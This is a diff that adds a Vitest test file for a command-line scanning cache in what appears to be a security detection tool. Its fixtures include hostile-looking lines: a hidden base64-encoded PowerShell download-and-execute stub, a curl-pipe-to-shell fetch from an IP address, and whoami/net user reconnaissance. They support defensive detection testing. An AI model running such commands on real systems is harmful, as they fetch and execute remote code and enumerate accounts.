@@ -1,0 +1,64 @@
+import { describe, expect, it } from 'vitest';
+import { CommandLineCache, type ScannedLine } from '../../../models/features/command-line-cache.js';
+import { CommandLineShape } from '../../../models/features/command-line-scan.js';
+import { tokenBounds } from '../../../models/features/command-line.js';
+import { Fold, fnvAdd } from '../../../models/features/hash.js';
+
+const LINES = [
+  'powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
+  '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\anna\\Downloads\\facture 2024.docm"',
+  'curl -fsSL http://203.0.113.7:8080/x.sh | sh',
+  'cmd.exe /c "whoami /all && net user /domain"',
+  '',
+  'İstanbul.exe /K', // a character only toLowerCase folds right: the scan's slow path
+];
+
+/** What a fresh scan and direct hashing give (the cache must give the same). */
+function fresh(cl: string, seed: number) {
+  const s = new CommandLineShape(32).scan(cl);
+  const starts = new Int32Array(32);
+  const ends = new Int32Array(32);
+  const n = tokenBounds(cl, starts, ends);
+  const hashes: number[] = [];
+  for (let i = 1; i < n; i++) hashes.push(fnvAdd(seed, cl, starts[i], ends[i], Fold.LOWER_DIGITS));
+  const { length, entropy, tokens, base64Run, hexRun, urls, ipLiterals, encoded, evasionMarkers, obfuscation } = s;
+  return { length, entropy, tokens, base64Run, hexRun, urls, ipLiterals, encoded, evasionMarkers, obfuscation, hashes };
+}
+
+const view = (e: ScannedLine) => {
+  const { length, entropy, tokens, base64Run, hexRun, urls, ipLiterals, encoded, evasionMarkers, obfuscation } = e;
+  return { length, entropy, tokens, base64Run, hexRun, urls, ipLiterals, encoded, evasionMarkers, obfuscation, hashes: [...e.hashes] };
+};
+
+describe('CommandLineCache', () => {
+  it('gives what a fresh scan gives: on a miss, on a hit, and on a hit under another token seed', () => {
+    const cache = new CommandLineCache(32);
+    for (const seed of [11, 11, 0x9e3779b9, 11]) {
+      for (const cl of LINES) expect(view(cache.get(cl, seed)), `${seed} ${cl}`).toEqual(fresh(cl, seed));
+    }
+    expect(cache.count.lookups).toBe(4 * LINES.length);
+    expect(cache.count.hits).toBe(3 * LINES.length);
+    // the seed (tenant, image) is part of every token's key
+    expect(view(cache.get(LINES[0]!, 1)).hashes).not.toEqual(view(cache.get(LINES[0]!, 2)).hashes);
+  });
+
+  it('stays bounded: two generations, the old one dropped when the young one fills', () => {
+    const cache = new CommandLineCache(32, 4);
+    const lines = Array.from({ length: 9 }, (_, i) => `job.exe --run ${i}`);
+    for (const cl of lines) cache.get(cl, 1);
+    // lines 0-3 were the old generation when line 4 arrived, 4-7 when line 8 did: 0-3 are gone
+    cache.get(lines[7]!, 1);
+    expect(cache.count.hits).toBe(1);
+    cache.get(lines[0]!, 1);
+    expect(cache.count.hits).toBe(1);
+    expect(view(cache.get(lines[0]!, 1))).toEqual(fresh(lines[0]!, 1));
+  });
+
+  it('measures a line longer than the scan bound without keeping it', () => {
+    const cache = new CommandLineCache(32);
+    const long = `cmd.exe /c ${'x'.repeat(9000)}`;
+    expect(view(cache.get(long, 5))).toEqual(fresh(long, 5));
+    cache.get(long, 5);
+    expect(cache.count.hits).toBe(0);
+  });
+});
